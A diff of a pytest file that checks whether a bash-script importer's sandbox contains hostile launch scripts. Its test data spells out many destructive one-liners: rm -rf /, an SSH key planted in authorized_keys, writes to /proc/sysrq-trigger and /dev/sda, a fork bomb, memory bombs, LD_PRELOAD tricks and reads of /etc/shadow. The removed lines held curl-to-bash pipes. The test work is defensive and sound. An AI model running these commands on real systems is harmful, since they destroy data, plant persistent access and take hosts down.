@@ -1,13 +1,19 @@
-"""Scripts that would do harm: nothing of them runs, is written or is contacted, and the error says what was refused."""
+"""Scripts that would do harm: bash runs them, and nothing outside of the sandbox changes."""
+
+# ruff: noqa: E501 - hostile scripts in one line each
 
 from __future__ import annotations
 
 import os
-import stat
+import shutil
+import socket
+import subprocess
 import sys
+import tempfile
+import time
 from collections.abc import Iterator
+from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -16,226 +22,247 @@ from hypothesis import strategies as st
 from fuligo.errors import ConfigError
 from fuligo.importer import import_script
 
-FORBIDDEN_EVENTS = ("subprocess.", "os.system", "os.exec", "os.fork", "os.posix_spawn", "os.spawn", "os.kill", "pty.", "socket.", "shutil.",
-                    "os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.link", "os.symlink", "os.chmod", "os.truncate", "tempfile.",
-                    "ctypes.", "urllib.")  # fmt: skip
-"""Of Python's audit hooks (PEP 578): processes, network, changes of the file system."""
+pytestmark = pytest.mark.usefixtures("sandbox")
+
+SECONDS = 1.5
 
 
-COMMANDS = ["rm", "curl", "wget", "ssh", "python3", "bash", "sh", "ray", "cat", "echo", "seq", "awk", "date", "nvidia-smi", "tee", "mktemp"]
+@dataclass
+class Host:
+    """What a script might reach on this machine."""
 
+    folder: Path
+    """Holds the script, a precious file, and a home."""
+    bystander: subprocess.Popen[bytes]
+    listener: socket.socket
 
-class Watch:
-    """Notes what the interpreter is asked to do while it is on. An audit hook cannot be removed, only switched off."""
+    @property
+    def variables(self) -> dict[str, str]:
+        return {
+            "PRECIOUS": str(self.folder / "precious"),
+            "HOME": str(self.folder / "home"),
+            "BYSTANDER": str(self.bystander.pid),
+            "PORT": str(self.listener.getsockname()[1]),
+        }
 
-    def __init__(self) -> None:
-        self.on = False
-        self.seen: list[tuple[str, Any]] = []
-        sys.addaudithook(self._hook)
-
-    def _hook(self, event: str, arguments: tuple[Any, ...]) -> None:
-        if not self.on:
-            return
-        writes = event == "open" and isinstance(arguments[2], int) and arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC)
-        if writes or event.startswith(FORBIDDEN_EVENTS):
-            self.seen.append((event, arguments))
-
-
-WATCH = Watch()
+    def tree(self) -> dict[str, tuple[int, str]]:
+        """Return mode and text of everything in the folder but the script."""
+        return {
+            str(path): (path.stat().st_mode, path.read_text() if path.is_file() else "")
+            for path in sorted(self.folder.rglob("*"))
+            if path.name != "run.sh"
+        }
 
 
 @pytest.fixture
-def canaries(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
-    """A folder with a precious file, and a PATH where every command leaves a trace. Nothing may have happened in the end."""
-    precious, trace, commands = tmp_path / "precious", tmp_path / "trace", tmp_path / "bin"
-    precious.write_text("keep me")
-    commands.mkdir()
-    for name in [
-        "rm",
-        "curl",
-        "wget",
-        "ssh",
-        "python3",
-        "bash",
-        "sh",
-        "ray",
-        "cat",
-        "echo",
-        "seq",
-        "awk",
-        "date",
-        "nvidia-smi",
-        "pkill",
-        "tee",
-        "mktemp",
-    ]:
-        (commands / name).write_text(f"#!/bin/sh\necho {name} >> {trace}\n")
-        (commands / name).chmod(stat.S_IRWXU)
-    monkeypatch.setenv("PATH", str(commands))
-    before = sorted(tmp_path.rglob("*"))
-    yield tmp_path
-    assert precious.read_text() == "keep me"
-    assert not trace.exists()
-    assert [path for path in sorted(tmp_path.rglob("*")) if path.name != "run.sh"] == before
-
-
-def evaluate(script: str, folder: Path) -> str:
-    """The error of a script, while everything that it might do is watched."""
-    (folder / "run.sh").write_text(script)
-    WATCH.seen.clear()
-    WATCH.on = True
+def host(tmp_path: Path) -> Iterator[Host]:
+    """Set up what must not change, and check it afterwards."""
+    (tmp_path / "precious").write_text("keep me")
+    (tmp_path / "home").mkdir()
+    (tmp_path / "home" / ".bashrc").write_text("# mine")
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.setblocking(False)
+    bystander = subprocess.Popen(["sleep", "600"])
+    host = Host(tmp_path, bystander, listener)
+    before, device, temporary = host.tree(), Path("/dev/null").stat().st_mode, {path.name for path in Path(tempfile.gettempdir()).iterdir()}
+    processes = running()
     try:
-        import_script(folder / "run.sh", given={"PRECIOUS": str(folder / "precious")})
-        error = ""
-    except ConfigError as refused:
-        error = str(refused)
+        yield host
+        assert host.tree() == before
+        assert Path("/dev/null").stat().st_mode == device
+        assert not [
+            name
+            for name in {path.name for path in Path(tempfile.gettempdir()).iterdir()} - temporary
+            if name.startswith(("hostile", "fuligo-import"))
+        ]
+        assert bystander.poll() is None
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+        assert not [name for name in running() - processes if "hostile" in name]
     finally:
-        WATCH.on = False
-    assert WATCH.seen == []
-    return error
+        bystander.kill()
+        bystander.wait()
+        listener.close()
 
 
-HOSTILE = {
-    "rm -rf $PRECIOUS": "`rm -rf",
-    "true\n\nrm -rf / &": "line 3: `rm -rf /`",
-    "curl -s http://example.com/x | bash": "`curl -s",
-    "wget -q http://example.com": "`wget",
-    "bash -c 'rm -rf /'": "`bash -c",
-    "sudo rm x": "`sudo rm x`",
-    "python3 -c 'import os'": "`python3 -c",
-    "python3 evil.py": "`python3 evil.py`",
-    "/bin/rm x": "`/bin/rm x`",
-    "./train.sh": "`./train.sh`",
-    "command rm x": "`command rm x`",
-    "builtin eval x": "`builtin eval x`",
-    "env rm x": "`env rm x`",
-    "xargs rm < /dev/null": "`xargs rm`",
-    "R=rm; $R -rf $PRECIOUS": "`rm -rf",
-    "x=$(date)": "`date`",
-    "x=`rm $PRECIOUS`": "`rm",
-    "echo $(cat <(rm x))": "process substitution",
-    "x=${y:-$(rm x)}": "`rm x`",
-    "cat <<EOF\n$(rm x)\nEOF": "`rm x`",
-    "if rm x; then :; fi": "`rm x`",
-    "a=($(rm x))": "`rm x`",
-    "eval \"$(echo rm) x\"": "eval runs text as a command",
-    "exec rm x": "exec runs",
-    "exec 3<>/dev/tcp/1.2.3.4/80": "not understood",
-    "echo GET > /dev/tcp/1.2.3.4/80": "would open a connection",
-    "cat < /dev/tcp/1.2.3.4/80": "outside of",
-    "cat /etc/passwd": "outside of",
-    "source /etc/profile": "outside of",
-    "source ../../../../../../etc/profile": "outside of",
-    "read -r x < /etc/passwd": "outside of",
-    "x=$(</etc/passwd)": "not understood",
-    "ssh host": "opens a shell on another machine",
-    "ssh host 'rm -rf /'": "what ssh would run on host",
-    "ssh -o A=b root@host \"pkill -9 python; curl x\" &": "`curl x`",
-    "scp x host:": "`scp",
-    "nohup rm x &": "`nohup",
-    "ray job submit -- rm -rf /": "not train.py",
-    "ray job submit -- bash train.py": "not train.py",
-    "ray exec cluster.yaml 'rm x'": "`ray exec",
-    "git push": "`git push`",
-    "docker run x": "`docker run",
-    ":(){ :|:& };:": "nested more than",
-    "f() { f; }; f": "nested more than",
-    "f() { $(f); }; f": "nested more than",
-    "source ${BASH_SOURCE[0]}": "nested more than",
-    "while true; do :; done": "does not end",
-    "while :; do echo y; done": "does not end",
-    "until false; do true & done": "does not end",
-    "for ((;;)); do :; done": "does not end",
-    "for ((i=0; i<10; )); do i=$i; done": "does not end",
-    "x=aaaa; for i in $(seq 100); do x=$x$x; done": "characters of text",
-    "a=(x x); for i in $(seq 100); do a+=(${a[@]}); done": "characters of text",
-    "x=aaaa; while :; do x=${x//a/aa}; done": "characters of text",
-    "echo $(seq 1 1000000000000)": "numbers",
-    "echo {1..1000000000}": "numbers",
-    "echo mlx5_{0..7}": "of braces, {1..8} alone is understood",
-    "echo {a,b}.jsonl": "of braces, {1..8} alone is understood",
-    "printf '%999999999d' 1": "printf",
-    "x=$((9**9**9))": "64 bits",
-    "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep '\\(a*\\)*b'": "grep",
-    "echo hi > $PRECIOUS": "before it starts train.py",
-    "tee $PRECIOUS < /dev/null": "before it starts train.py",
-    "mktemp /tmp/x.XXXXXX": "before it starts train.py",
-    "mkdir -p /tmp/new; trap 'rm x' EXIT; pkill -9 python": "before it starts train.py",
-    "kill -9 1": "`kill",
-    "select x in a b; do rm x; done": "asks its user",
-    "alias ls=rm": "`alias",
-    "coproc rm x": "`coproc",
-    "\x00\x01\x02": "",
-    "if": "not valid bash",
-    "echo 'unfinished": "not valid bash",
-    "echo )": "not valid bash",
-    "(" * 5000: "",
-    "<<A\n" * 50_000: "here-documents",
-    "x=" + "{" * 150_000: "before it starts train.py",
-    "while :; do : " + "a" * 100_000 + "; done": "characters of text",
-    "x=" + "a" * 100_000 + "; y=${x%%*b}": "characters of text",
-    "x=" + "a" * 100_000 + "; y=${x//*b/}": "characters of text",
-    "echo " + "a" * 100_000 + " | grep -o 'a*b'": "characters of text",
-    "x=" + "a" * 100_000 + "; while :; do case $x in *b) ;; esac; done": "characters of text",
-    "x=" + "a" * 100_000 + "; while [[ $x != *b ]]; do :; done": "characters of text",
-    "# " + "x" * 300_000: "bytes",
-    "((" * 300 + "1" + "))" * 300: "",
-    "x=" + "$(" * 300 + "echo" + ")" * 300: "",
-    "{ " * 300 + "rm x; " + "} ;" * 300: "",
-    "x=" + "${x:-" * 300 + "1" + "}" * 300: "",
+def running() -> set[str]:
+    """Return the command lines of this machine's processes."""
+    found = set()
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdecimal():
+            try:
+                found.add((entry / "cmdline").read_bytes().decode(errors="replace"))
+            except OSError:
+                continue
+    return found
+
+
+def run(script: str, host: Host) -> str:
+    """Run a hostile script to its end; what is said about it."""
+    (host.folder / "run.sh").write_text(script)
+    try:
+        return "\n".join(import_script(host.folder / "run.sh", given=host.variables, seconds=SECONDS).notes)
+    except ConfigError as error:
+        return str(error)
+
+
+HARMLESS = {
+    "removes everything": "rm -rf --no-preserve-root / 2>/dev/null; rm -rf $PRECIOUS $HOME",
+    "removes the folder": "rm -rf $(dirname $PRECIOUS)/*; echo gone > $PRECIOUS",
+    "overwrites": "echo hostile > $PRECIOUS; cat </dev/null >| $PRECIOUS; truncate -s 0 $PRECIOUS; sed -i d $PRECIOUS; chmod 0 $PRECIOUS",
+    "writes at home": "echo 'rm x' >> $HOME/.bashrc; mkdir -p $HOME/.ssh; echo key >> $HOME/.ssh/authorized_keys; touch ~/hostile",
+    "writes to /tmp": "echo x > /tmp/hostile; mktemp /tmp/hostile.XXXXXX; mkdir /var/tmp/hostile; touch /hostile /usr/bin/hostile",
+    "opens a connection": "echo GET > /dev/tcp/127.0.0.1/$PORT; exec 3<>/dev/tcp/127.0.0.1/$PORT; cat < /dev/udp/127.0.0.1/$PORT",
+    "kills": "kill -9 $BYSTANDER; kill -9 1; kill -9 -1; pkill -9 sleep; killall sleep; kill -STOP 1",
+    "writes to /proc": "echo x > /proc/sys/kernel/core_pattern; echo b > /proc/sysrq-trigger; echo 0 > /proc/sys/kernel/panic; echo 1 > /proc/1/mem",
+    "changes devices": "chmod 000 /dev/null; rm -f /dev/null; mv /dev/zero /dev/null; echo x > /dev/sda; dd if=/dev/zero of=/dev/vda",
+    "calls by path": "/usr/bin/python3 -c 'open(\"/tmp/hostile\", \"w\")'; /bin/rm -rf $HOME; /usr/bin/curl x; /sbin/reboot; /usr/bin/perl -e 1",
+    "exec": "exec -a hostile /usr/bin/python3 hostile.py",
+    "preloads": "export LD_PRELOAD=$PRECIOUS LD_LIBRARY_PATH=/tmp; rm -f $PRECIOUS; ls",
+    "changes PATH": "export PATH=/usr/bin:/bin:/sbin:/usr/local/bin:$HOME; hash -r; python3 hostile.py; rm -f $PRECIOUS; unset PATH; rm $PRECIOUS",
+    "changes the preamble": "unset BASH_ENV; trap - DEBUG; unset -f command_not_found_handle; rm -rf /run/import-script; rm $PRECIOUS",
+    "uses awk": "awk 'BEGIN { system(\"rm -rf \" ENVIRON[\"HOME\"]); print 1 > ENVIRON[\"PRECIOUS\"]; \"id\" | getline }'",
+    "uses find and xargs": "find / -name precious -delete 2>/dev/null; find $HOME -exec rm -f {} +; echo $PRECIOUS | xargs rm -f",
+    "asks for namespaces": "unshare -Ur id; mount -t tmpfs x /mnt; chroot /; umount /proc; mknod /tmp/hostile b 8 0; chown 1:1 $PRECIOUS",
+    "leaves a job": "(trap '' HUP TERM; while :; do sleep 1; read -t 1 < <(:); done) & disown; nohup yes hostile >/dev/null &",
+    "a link as a record": "ln -sf $PRECIOUS /run/import-script/records/1.1-1; ln -sf /etc/shadow /run/import-script/output; mkfifo /run/import-script/records/2",
+    "a full disk": "for i in {1..30}; do head -c 7000000 /dev/zero > /tmp/hostile$i; done; head -c 7000000 /dev/zero > $HOME/hostile",
+    "many files": "for i in {1..100000}; do : > /tmp/hostile$i || break; done",
+    "many records": "while :; do python3 hostile.py || break; done",
 }  # fmt: skip
 
 
-@pytest.mark.parametrize(("script", "refused"), HOSTILE.items(), ids=[script[:40] for script in HOSTILE])
-def test_nothing_runs(script: str, refused: str, canaries: Path):
-    error = evaluate(script, canaries)
-    assert refused in error
-    assert "run.sh" in error
+@pytest.mark.parametrize("script", HARMLESS.values(), ids=HARMLESS)
+def test_nothing_changes(script: str, host: Host):
+    assert "run.sh" in run(script, host)
 
 
-@pytest.mark.parametrize("script", ["echo \xff", "rm \xed\xb2\x80"], ids=["latin-1", "surrogates"])
-def test_a_script_that_is_no_text(script: str, tmp_path: Path):
-    (tmp_path / "run.sh").write_bytes(script.encode("latin-1"))
-    with pytest.raises(ConfigError, match="UTF-8"):
-        import_script(tmp_path / "run.sh")
+LIMITED = {
+    "a fork bomb": (":(){ :|:& };:", ("processes", "ends with status", "signal", "time")),
+    "forks that wait": ("while :; do read -t 100 < /dev/zero & done; wait", ("processes", "does not end")),
+    "a memory bomb": ("x=aaaaaaaa; while :; do x=$x$x; done", ("ends with status", "memory", "signal", "does not end")),
+    "many memory bombs": ("for i in {1..20}; do (head -c 100m /dev/zero | tail -n 1; x=$(yes | head -c 60m)) & done; wait", ("memory", "ends with status", "does not end")),
+    "an endless loop": ("while :; do :; done", ("line 1: the script does not end within 1.5 s",)),
+    "an endless sleep": ("read < <(tail -f /dev/null)", ("does not end within 1.5 s",)),
+    "endless output": ("while :; do echo hostile; done", ("writes more than 8 MiB", "does not end")),
+    "endless output of a tool": ("yes hostile; exit 7", ("ends with status 7", "writes more than 8 MiB", "does not end")),
+    "endless recursion": ("f() { f; }; f", ("signal 11", "ends with status", "does not end")),
+    "ignored signals": ("trap '' TERM INT HUP XCPU; while :; do :; done", ("does not end within 1.5 s",)),
+    "a stopped script": ("kill -STOP $$", ("does not end within 1.5 s",)),
+}  # fmt: skip
 
 
-def test_a_link_out_of_the_folder_is_not_followed(tmp_path: Path):
-    folder = tmp_path / "scripts"
-    folder.mkdir()
-    (tmp_path / "secret.sh").write_text("echo secret")
-    (folder / "innocent.sh").symlink_to(tmp_path / "secret.sh")
-    assert "outside of" in evaluate("cd $(dirname ${BASH_SOURCE[0]}); source innocent.sh", folder)
+@pytest.mark.parametrize(("script", "ends"), LIMITED.values(), ids=LIMITED)
+def test_limits_end_a_script(script: str, ends: tuple[str, ...], host: Host):
+    start = time.monotonic()
+    said = run(script, host)
+    assert any(end in said for end in ends), said
+    assert time.monotonic() - start < 60
+
+
+def test_a_script_that_goes_on_after_the_start_is_imported(host: Host):
+    said = run("python3 train.py --a 1\nwhile :; do :; done", host)
+    assert "line 2: the script does not end within 1.5 s, after it started the job" in said
+
+
+def test_files_outside_of_its_folder_are_not_seen(host: Host):
+    secret = host.folder.parent / f"{host.folder.name}-secret.sh"
+    secret.write_text("echo secret")
+    try:
+        (host.folder / "innocent.sh").symlink_to(secret)
+        assert "innocent.sh does not exist in the sandbox" in run("cd $(dirname $0); source ./innocent.sh", host)
+        assert "shadow" in run("python3 train.py $(cat /etc/shadow)", host)
+    finally:
+        secret.unlink()
+        (host.folder / "innocent.sh").unlink()
 
 
 def test_secrets_of_the_caller_are_not_seen(tmp_path: Path):
-    (tmp_path / "run.sh").write_text("python3 train.py --wandb-key $WANDB_API_KEY")
-    with pytest.raises(ConfigError, match="WANDB_API_KEY is not set"):
-        import_script(tmp_path / "run.sh", environment={"WANDB_API_KEY": "secret"})
+    (tmp_path / "run.sh").write_text("python3 train.py --x $(env | grep -c SECRET) --key $WANDB_API_KEY --open $(ls /proc/self/fd | wc -l)")
+    launch = import_script(tmp_path / "run.sh", environment={"WANDB_API_KEY": "secret", "SECRET": "1"}).launch
+    assert launch.arguments == ("--x", "0", "--key", "--open", "4")  # the three standard streams, and the one that ls reads
 
 
-PARTS = r"""rm|curl|$(rm x)|`rm x`|eval|x=1|$x|${x:-|}|(|)|{|((|))|[[|]]|[|]|;|&|&&|<<EOF|EOF|<|>|>>|<(|if|then|fi
-else|for x in|do|done|while|true
-f()|f|case x in|esac|a=(
-a+=(|${a[@]}|'|"|\|$((|1|/0|**|seq 5|ssh h|source|run.sh|exec|python3 train.py|2>&1
-export|local|shift|return|break|set -e
-printf %s|read x|!|#|$'\n'|{1..3}|~|*|exit|continue|case|in|a) b;;|until false|a[0]=1|trap|wait|unset x|$?|$#|"$@"|:|"""
+def test_the_script_has_no_capabilities(tmp_path: Path):
+    (tmp_path / "run.sh").write_text("python3 train.py $(grep -E 'Cap(Prm|Eff|Bnd|Amb)|NoNewPrivs' /proc/self/status | awk '{print $2}')")
+    assert import_script(tmp_path / "run.sh").launch.arguments == (*["0000000000000000"] * 4, "1")
+
+
+@pytest.mark.parametrize("folder", ["/", "/usr", "/proc", "/etc/ssl"])
+def test_folders_of_the_system_are_not_shown(folder: str, tmp_path: Path):
+    (tmp_path / "run.sh").write_text("python3 train.py")
+    with pytest.raises(ConfigError, match="it is a folder of the system"):
+        import_script(tmp_path / "run.sh", root=Path(folder))
+
+
+@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"), reason="needs root and setpriv to become another user")
+def test_a_user_without_privileges_has_the_sandbox_too():
+    with tempfile.TemporaryDirectory(prefix="importer-user-") as name:
+        folder = Path(name)
+        folder.chmod(0o755)
+        (folder / "run.sh").write_text("rm -rf $(dirname $0)/*; touch /tmp/hostile; ls -A /home; /usr/bin/python3 train.py --id $(id -u)")
+        code = (
+            "import sys, pathlib; from fuligo.importer import import_script;"
+            f"print(import_script(pathlib.Path({str(folder / 'run.sh')!r})).launch.arguments)"
+        )
+        command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c", code]
+        done = subprocess.run(command, cwd="/", capture_output=True, text=True, check=False, env={**os.environ, "HOME": "/nonexistent"})
+        if "Permission denied" in done.stderr:
+            pytest.skip("another user cannot read this checkout or its interpreter")
+        assert done.stdout.strip() == "('--id', '0')", done.stderr
+        assert (folder / "run.sh").exists()
+
+
+class TestWithoutSandbox:
+    """Inside of a user namespace that permits no further ones."""
+
+    @pytest.fixture
+    def command(self, tmp_path: Path) -> list[str]:
+        if shutil.which("unshare") is None:
+            pytest.skip("needs unshare")
+        (tmp_path / "run.sh").write_text(
+            "pkill -9 python\nrm -rf $1\nkill -9 $2\nfrobnicate\nX=a/b\npython3 train.py --x $X --n $((1 + 1)) --lr 1e-6\n"
+        )
+        (tmp_path / "precious").write_text("keep me")
+        forbid = 'echo 0 > /proc/sys/user/max_user_namespaces; exec "$@"'
+        fuligo = [sys.executable, "-m", "fuligo", "import-script", "--no-slime"]
+        return ["unshare", "-Ur", "sh", "-c", forbid, "sh", *fuligo, str(tmp_path / "run.sh"), str(tmp_path / "precious"), str(os.getpid())]
+
+    def test_is_refused_and_says_what_would_run(self, command: list[str]):
+        done = subprocess.run(command, capture_output=True, text=True, check=False)
+        assert done.returncode == 2
+        assert "cannot run run.sh in a sandbox: user namespaces are not permitted" in done.stderr
+        assert "bash runs the script itself" in done.stderr
+        assert "--trust" in done.stderr
+
+    def test_runs_with_stand_ins_if_trusted(self, command: list[str], tmp_path: Path):
+        done = subprocess.run([*command, "--trust"], capture_output=True, text=True, check=False)
+        assert (done.returncode, done.stdout.splitlines()[1:]) == (0, ["optimizer:", "  lr: 1.0e-06"]) or "unknown flag --x" in done.stderr
+        assert (tmp_path / "precious").read_text() == "keep me"
+
+    def test_cannot_map_folders(self, command: list[str], tmp_path: Path):
+        done = subprocess.run([*command, "--trust", "--map", f"/root/slime={tmp_path}"], capture_output=True, text=True, check=False)
+        assert done.returncode == 2
+        assert "--map needs a sandbox" in done.stderr
+
+
+PARTS = r"""rm -rf $PRECIOUS|$(rm x)|`rm x`|eval|x=1|$x|${x:-|}|(|)|{|((|))|[[|]]|[|]|;|&|&&|<<EOF|EOF|<|>|>>|<(|if|then|fi|else|for x in|do|done|true
+f()|f|case x in|esac|a=(|a+=(|${a[@]}|'|"|\|$((|1|/0|**|seq 5|ssh h|source|run.sh|exec|python3 train.py|2>&1|export|local|shift|return|set -e
+printf %s|!|#|{1..3}|~|*|exit|a) b;;|a[0]=1|trap|wait|unset x|$?|$#|"$@"|:|> $PRECIOUS|cd $HOME|kill -9|$BYSTANDER|/dev/tcp/127.0.0.1/$PORT"""
 WORDS = st.sampled_from([*PARTS.replace("\n", "|").split("|"), "|", "||", "\n"])
 
 
-@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(max_examples=8, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(parts=st.lists(WORDS, max_size=25))
-def test_any_jumble_ends_with_a_clear_error_or_a_launch(parts: list[str], tmp_path: Path):
-    error = evaluate(" ".join(parts), tmp_path)
-    assert error == "" or "run.sh" in error
+def test_any_jumble_ends_with_a_clear_error_or_a_launch(parts: list[str], host: Host):
+    said = run(" ".join(parts), host)
+    assert said == "" or "run.sh" in said
 
 
-LAUNCH_SCRIPT = (Path(__file__).with_name("snippets.sh")).read_text().splitlines()
-
-
-@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(start=st.integers(0, len(LAUNCH_SCRIPT) - 1), length=st.integers(1, 30), cut=st.integers(0, 200), inserted=WORDS)
-def test_any_damaged_script_ends_with_a_clear_error_or_a_launch(start: int, length: int, cut: int, inserted: str, tmp_path: Path):
-    text = "\n".join(LAUNCH_SCRIPT[start : start + length])
-    error = evaluate(text[:cut] + inserted + text[cut + 1 :], tmp_path)
-    assert error == "" or "run.sh" in error
+def test_a_report_is_bounded(tmp_path: Path):
+    text = (
+        "x=$(head -c 120000 /dev/zero | tr '\\0' x)\nfor i in {1..10}; do python3 other.py $x $x $x $x $x $x $x $x; done; python3 train.py"
+    )
+    (tmp_path / "run.sh").write_text(text)
+    with pytest.raises(ConfigError, match="calls too many commands"):
+        import_script(tmp_path / "run.sh")
